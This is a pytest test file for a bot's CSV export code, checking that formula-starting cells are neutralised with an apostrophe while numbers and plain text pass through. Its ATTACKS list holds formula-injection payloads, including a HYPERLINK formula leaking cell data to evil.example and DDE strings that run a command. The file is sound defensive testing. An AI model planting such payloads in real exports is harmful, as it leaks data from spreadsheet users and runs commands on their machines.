"""bot.csv_export: every cell a spreadsheet would run as a formula is neutralised; numbers stay numbers."""

import csv
import io

import pytest

from bot.csv_export import dicts_to_csv, neutralise, to_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "-", "+", "@", "-inf"]


def _written(cell) -> str:
    [_header, [_, written]] = csv.reader(io.StringIO(to_csv(["id", "cell"], [[1, cell]])))
    return written


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_that_starts_a_formula_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell
    assert _written(cell) == "'" + cell.replace("\r", "\n")


def test_a_carriage_return_inside_a_cell_does_not_start_a_row():
    text = to_csv(["id", "comment"], [[1, "first\r=1+1"], [2, "a\r\nb"]])
    assert list(csv.reader(io.StringIO(text))) == [["id", "comment"], ["1", "first\n=1+1"], ["2", "a\nb"]]
    assert "\r" not in text


@pytest.mark.parametrize("cell", [-3.5, -12, 0, "-3.5", "+2", "-0.5000", "-1e-3", ".5", "Plain text",
                                  "a=b", "note - with dash", "", None])
def test_numbers_and_ordinary_text_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_dict_rows_follow_the_columns_and_refuse_unknown_keys():
    text = dicts_to_csv(("a", "b"), [{"b": "=x", "a": -1}, {"a": "ok"}])
    assert text == "a,b\n-1,'=x\nok,\n"
    with pytest.raises(ValueError, match="not in the CSV columns: c"):
        dicts_to_csv(("a",), [{"a": 1, "c": 2}])
